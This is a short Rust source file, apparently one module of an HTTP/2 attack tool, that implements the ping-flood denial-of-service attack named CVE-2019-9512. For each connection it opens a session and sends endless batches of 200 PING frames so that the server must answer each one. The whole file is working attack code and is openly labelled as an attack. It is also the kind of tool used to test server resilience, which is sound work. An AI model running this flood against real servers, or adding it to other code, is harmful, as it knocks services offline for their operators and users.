//! HTTP/2 PINGs without end, each of which asks for an answer that nobody reads (CVE-2019-9512).

use super::super::attacker::Attacker;
use super::super::ends::Ends;
use super::super::frames::{PING, frame};
use super::super::http2::Connection;

/// Asks for signs of life.
pub(super) async fn attack(attacker: &Attacker) -> Ends {
    attacker
        .with_each(|attacker, stream| async move {
            let connection = Connection::begin(attacker, stream, &[]).await;
            let batch = frame(PING, 0, 0, [7; 8]).repeat(200);
            connection.flood(|_| batch.clone()).await
        })
        .await
}
